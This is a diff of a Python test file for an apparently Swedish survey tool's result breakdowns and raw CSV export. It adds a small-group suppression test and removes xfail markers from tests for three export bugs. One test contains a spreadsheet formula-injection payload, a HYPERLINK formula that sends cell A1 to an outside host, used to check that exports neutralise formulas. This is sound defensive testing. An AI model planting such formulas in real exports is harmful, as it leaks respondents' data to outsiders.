@@ -322,6 +322,23 @@ def test_breakdowns_hide_small_cells_and_small_groups() -> None:
     )
 
 
+def test_a_group_under_five_hides_its_total_even_when_two_cells_are_hidden() -> None:
+    built = build_survey()
+    answer_mix(
+        built,
+        [
+            (1, "man", "30–44", OSTERSUND, BUSS),
+            (2, "man", "30–44", OSTERSUND, BIL),
+            (6, "kvinna", "30–44", OSTERSUND, BUSS),
+        ],
+    )
+    transport = transport_result(survey_results(built.survey), built)
+    assert rows_of(transport, "Kön") == [
+        ("Kvinna", 6, [6, 0, 0]),
+        ("Man", None, [None, None, 0]),
+    ]
+
+
 def test_trimming_caps_the_weights() -> None:
     sexes: list[str | None] = [*["kvinna"] * 45, *["man"] * 5]
     columns = {"sex": sexes}
@@ -478,11 +495,6 @@ def test_raw_csv_has_one_anonymous_row_per_submitted_response() -> None:
     assert str(timezone.localdate().year) not in text  # no timestamps
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: raw_csv exports a numeric answer of 0 as an empty cell "
-    "(`str(number) if number else text` treats Decimal('0') as no answer)",
-)
 def test_raw_csv_keeps_a_number_answer_of_zero() -> None:
     built = build_survey()
     answer_directly(built, transport=BUSS, trips=0)
@@ -491,11 +503,6 @@ def test_raw_csv_keeps_a_number_answer_of_zero() -> None:
     assert trips != "" and Decimal(trips) == 0
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: raw_csv writes free-text answers verbatim, so an answer such as "
-    "'=HYPERLINK(...)' becomes a live formula when staff open the file in a spreadsheet",
-)
 def test_raw_csv_does_not_let_an_answer_become_a_spreadsheet_formula() -> None:
     built = build_survey(access="anonymous")
     formula = '=HYPERLINK("http://example.com/?x="&A1,"Klicka")'
@@ -506,11 +513,6 @@ def test_raw_csv_does_not_let_an_answer_become_a_spreadsheet_formula() -> None:
     assert not cell.startswith(("=", "+", "-", "@"))  # … but not as a formula
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="BUG: raw_csv shuffles with random.Random(survey.pk), so anyone who knows the "
-    "survey's id can undo the shuffle and get the order people answered in",
-)
 def test_raw_csv_order_cannot_be_reproduced_from_the_survey_id() -> None:
     built = build_survey()
     for trips in range(1, 13):
